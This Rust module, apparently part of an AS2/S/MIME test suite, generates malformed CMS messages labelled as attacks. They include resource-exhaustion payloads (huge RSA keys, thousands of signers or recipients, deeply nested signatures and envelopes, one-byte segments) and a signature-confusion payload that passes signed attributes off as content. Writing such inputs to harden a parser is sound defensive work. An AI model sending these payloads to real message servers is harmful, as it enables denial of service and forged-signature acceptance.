//! Signatures and envelopes (RFC 5652) that cost more than they weigh.

use as2hook_as2::ber::oid as ids;
use openssl::sha::sha256;

use super::Attack;
use crate::{
    Cipher, Identity,
    cms::{content_info, identifier, smime},
    der::{Encoding, NULL, int, octets, oid, seq, set, tlv},
    message::{Message, Part},
};

const SIGNED: &str = "application/pkcs7-mime; smime-type=signed-data";
const ENVELOPED: &str = "application/pkcs7-mime; smime-type=enveloped-data";
const CONTENT_TYPE: &[u8] = b"\x2a\x86\x48\x86\xf7\x0d\x01\x09\x03";
const COMMON_NAME: &[u8] = b"\x55\x04\x03";

/// A header line without a colon in segments of one byte.
pub fn tiny_segments(length: usize) -> Attack {
    let line = "a".repeat(length);
    let entity =
        format!("Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n{line}\r\n\r\n--B--\r\n");
    Attack::new(SIGNED, segmented(entity.as_bytes()))
}

/// A signed entity with its content in segments of one byte.
pub fn in_segments(content: &[u8]) -> Vec<u8> {
    smime("signed-data", &segmented(content))
}

/// A certificate of a new RSA key of this modulus and public exponent, in bits, that has no private one.
pub fn certificate(modulus: usize, exponent: usize) -> Vec<u8> {
    let number = |bits| odd_number(&mut fastrand::Rng::new(), bits);
    certificate_of(&public_key(&number(modulus), &number(exponent)), 0)
}

/// A signed entity by these certificates, with so many signers, of which no two are alike or all.
pub fn signed(content: &[u8], certificates: &[Vec<u8>], signers: usize, distinct: bool) -> Vec<u8> {
    let value = |nth: usize| {
        let mut value = vec![3; 256];
        value[255] = if distinct { nth as u8 } else { 0 };
        value
    };
    let signed = signed_by(content, &certificates.concat(), (0..signers).map(value));
    smime("signed-data", &signed)
}

/// Layers of SignedData, each by so many signers with so many certificates, whose RSA keys have this
/// modulus and public exponent, in bits. Each signer's attributes are out of order, and its algorithm
/// implies another digest than it names, so that there are several readings to try.
pub fn slow_signers(
    layers: usize,
    bits: usize,
    exponent: usize,
    signers: usize,
    certificates: usize,
) -> Attack {
    let mut random = fastrand::Rng::with_seed(7);
    let modulus = odd_number(&mut random, bits);
    let exponent = odd_number(&mut random, exponent.min(bits - 1));
    let key = public_key(&modulus, &exponent);
    // All of the same name and number, so that each may be any signer's, and no two alike.
    let certificates: Vec<u8> =
        (0..certificates).flat_map(|nth| certificate_of(&key, nth)).collect();
    let mut value = modulus;
    value[0] >>= 1;
    let mut attack = Attack::new("text/plain", b"hello".to_vec());
    for _ in 0..layers {
        let entity = attack.entity();
        let output = attack.output + entity.len() as u64;
        let values = (0..signers).map(|nth| {
            value[bits / 8 - 1] = nth.to_le_bytes()[0];
            value.clone()
        });
        let body = signed_by(&entity, &certificates, values);
        attack = Attack { content_type: SIGNED.to_owned(), body, output };
    }
    attack
}

/// As many signers and certificates as fit into so many bytes, all of them small.
pub fn many_signers(bytes: usize) -> Attack {
    let content = octets(b"Content-Type: text/plain\r\n\r\nhello");
    let info = |nth: usize| signer_info(&[], ids::RSA, &nth.to_be_bytes());
    let infos: Vec<u8> = (0..bytes / info(0).len()).flat_map(info).collect();
    Attack::new(SIGNED, signed_data(&content, &[], &infos))
}

/// So many layers of SignedData around each other, with so many bytes of content inside.
pub fn nested_signatures(layers: usize, length: usize) -> Attack {
    let mut attack = Attack::new("application/octet-stream", vec![b'x'; length]);
    for _ in 0..layers {
        let content = octets(&attack.entity());
        let output = attack.output + content.len() as u64;
        let body = signed_data(&content, &[], &signer_info(&[], ids::RSA, &[1; 256]));
        attack = Attack { content_type: SIGNED.to_owned(), body, output };
    }
    attack
}

/// So many envelopes around each other, each for this recipient.
pub fn nested_envelopes(layers: usize, recipient: &Identity) -> Attack {
    let message = Message::new("A", "B").attach(Part::text("a.txt", "text/plain", "hello"));
    let message = (0..layers).fold(message, |message, _| message.encrypt(recipient));
    let body = message.build().body;
    let output = (body.len() * layers) as u64;
    Attack { content_type: ENVELOPED.to_owned(), body, output }
}

/// An envelope with so many RecipientInfos for one recipient, none of whose keys is right.
pub fn many_recipients(count: usize, recipient: &Identity) -> Attack {
    let length = recipient.key.rsa().map_or(256, |rsa| rsa.size() as usize);
    let name = identifier(&recipient.certificate, false);
    let mut random = fastrand::Rng::with_seed(7);
    let infos: Vec<u8> = (0..count)
        .flat_map(|_| {
            let mut wrapped = vec![0; length];
            random.fill(&mut wrapped);
            wrapped[0] = 0;
            let wrapped = octets(&wrapped);
            seq(&[&int(0), &name, &seq(&[&oid(ids::RSA), NULL]), &wrapped])
        })
        .collect();
    let inner = seq(&[
        &oid(ids::DATA),
        &seq(&[&oid(Cipher::Aes256Cbc.id()), &octets(&[7; 16])]),
        &tlv(0x80, &[9; 4096]),
    ]);
    let enveloped = seq(&[&int(0), &set(&[&infos]), &inner]);
    let body = content_info(Encoding::Der, ids::ENVELOPED_DATA, &enveloped);
    Attack::new(ENVELOPED, body)
}

/// A signature that the signer made over signed attributes, passed off as one without attributes whose
/// content is those attributes: both verify over the same bytes.
pub fn attributes_as_content(signer: &Identity) -> Attack {
    let attributes = [
        attribute(CONTENT_TYPE, &oid(ids::DATA)),
        attribute(
            ids::MESSAGE_DIGEST,
            &octets(&sha256(b"Content-Type: text/plain\r\n\r\nan order")),
        ),
    ]
    .concat();
    let content = set(&[&attributes]);
    let mut made = openssl::sign::Signer::new(openssl::hash::MessageDigest::sha256(), &signer.key)
        .expect("a key that signs");
    let value = made.sign_oneshot_to_vec(&content).expect("a key that signs");
    let info = seq(&[
        &int(1),
        &identifier(&signer.certificate, false),
        &seq(&[&oid(ids::SHA256), NULL]),
        &seq(&[&oid(ids::RSA), NULL]),
        &octets(&value),
    ]);
    let certificate = signer.certificate.to_der().expect("a certificate that was made");
    Attack::new(SIGNED, signed_data(&octets(&content), &certificate, &info))
}

// === helpers ===

fn segmented(content: &[u8]) -> Vec<u8> {
    let segments: Vec<u8> = content.iter().flat_map(|&byte| [4, 1, byte]).collect();
    signed_data(&tlv(0x24, &segments), &[], &[])
}

/// An opaque signature over this content, a signer for each of these values. Its attributes are out of DER's
/// order, and its algorithm implies another digest than it names, so that there are several readings to try.
fn signed_by(
    content: &[u8],
    certificates: &[u8],
    values: impl Iterator<Item = Vec<u8>>,
) -> Vec<u8> {
    let attributes = [
        attribute(ids::MESSAGE_DIGEST, &octets(&sha256(content))),
        attribute(CONTENT_TYPE, &oid(ids::DATA)),
    ];
    let attributes = tlv(0xa0, &attributes.concat());
    let info = |value: Vec<u8>| signer_info(&attributes, ids::SHA512_WITH_RSA, &value);
    let infos: Vec<u8> = values.flat_map(info).collect();
    signed_data(&octets(content), certificates, &infos)
}

fn signed_data(content: &[u8], certificates: &[u8], infos: &[u8]) -> Vec<u8> {
    let certificates = if certificates.is_empty() { Vec::new() } else { tlv(0xa0, certificates) };
    let data = seq(&[
        &int(1),
        &set(&[&seq(&[&oid(ids::SHA256), NULL])]),
        &seq(&[&oid(ids::DATA), &tlv(0xa0, content)]),
        &certificates,
        &set(&[infos]),
    ]);
    content_info(Encoding::Der, ids::SIGNED_DATA, &data)
}

/// Of the signer that all certificates here are of.
fn signer_info(attributes: &[u8], signature: &[u8], value: &[u8]) -> Vec<u8> {
    seq(&[
        &int(1),
        &seq(&[&name("x"), &int(1)]),
        &seq(&[&oid(ids::SHA256), NULL]),
        attributes,
        &seq(&[&oid(signature), NULL]),
        &octets(value),
    ])
}

fn public_key(modulus: &[u8], exponent: &[u8]) -> Vec<u8> {
    let bits = [&[0], seq(&[&integer(modulus), &integer(exponent)]).as_slice()].concat();
    seq(&[&seq(&[&oid(ids::RSA), NULL]), &tlv(3, &bits)])
}

fn certificate_of(key: &[u8], nth: usize) -> Vec<u8> {
    let signature = seq(&[&oid(ids::SHA256_WITH_RSA), NULL]);
    let time = |text: &[u8]| tlv(0x17, text);
    let validity = seq(&[&time(b"200101000000Z"), &time(b"490101000000Z")]);
    let version = tlv(0xa0, &int(2));
    let fields: [&[u8]; 7] =
        [&version, &int(1), &signature, &name("x"), &validity, &name(&nth.to_string()), key];
    seq(&[&seq(&fields), &signature, &tlv(3, &[&[0][..], &[1; 256]].concat())])
}

fn attribute(kind: &[u8], value: &[u8]) -> Vec<u8> {
    seq(&[&oid(kind), &set(&[value])])
}

fn name(text: &str) -> Vec<u8> {
    let common_name = seq(&[&oid(COMMON_NAME), &tlv(12, text.as_bytes())]);
    seq(&[&set(&[&common_name])])
}

/// A positive number of these bytes.
fn integer(bytes: &[u8]) -> Vec<u8> {
    let lead = bytes.iter().take_while(|&&byte| byte == 0).count();
    let significant = &bytes[lead.min(bytes.len() - 1)..];
    let zero: &[u8] = if significant[0] & 0x80 == 0 { &[] } else { &[0] };
    tlv(2, &[zero, significant].concat())
}

fn odd_number(random: &mut fastrand::Rng, bits: usize) -> Vec<u8> {
    let mut bytes = vec![0; bits.div_ceil(8)];
    random.fill(&mut bytes);
    let spare = bytes.len() * 8 - bits;
    bytes[0] &= 0xff >> spare;
    bytes[0] |= 0x80 >> spare;
    *bytes.last_mut().expect("some bits") |= 1;
    bytes
}
